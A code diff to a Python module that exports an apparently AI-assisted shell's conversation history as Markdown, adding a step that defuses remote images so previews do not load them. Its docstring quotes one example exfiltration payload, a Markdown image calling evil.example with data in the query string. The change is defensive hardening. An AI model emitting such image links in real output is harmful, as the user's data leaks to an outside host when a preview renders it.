@@ -7,7 +7,11 @@ itself contains Markdown fences cannot break out). Everything goes through the
 redactor once more (an export of an in-memory history never saw the file's
 redaction) and through the one sanitiser, as for a terminal: an export is read
 with ``cat`` and ``less``, so an ESC, a BEL or a bidi override in it is shown,
-not obeyed.
+not obeyed. It is read in Markdown previews too (VS Code, Obsidian, a wiki),
+which load a model's ``![x](https://evil.example/p.png?d=…)`` or ``<img src=…>``
+unasked: the whole export goes through the defuser ACP uses
+(:mod:`shell.core.remoteimages`), so an image is a link and a loading tag is text,
+outside fenced code (finding Y12).
 """
 
 from __future__ import annotations
@@ -29,6 +33,7 @@ from shell.core.messages import (
     ToolResultMessage,
     UserMessage,
 )
+from shell.core.remoteimages import defuse_images
 from shell.core.summaryrecord import summary_of
 from shell.core.textsafety import json_text, sanitize
 
@@ -163,4 +168,4 @@ def export_markdown(
         elif isinstance(m, ToolResultMessage):
             out.append(_result(m, r, outcomes.get(m.call_id, "")))
             last_role = "tool"
-    return sanitize("\n\n".join(p for p in out if p) + "\n")
+    return defuse_images(sanitize("\n\n".join(p for p in out if p) + "\n"))
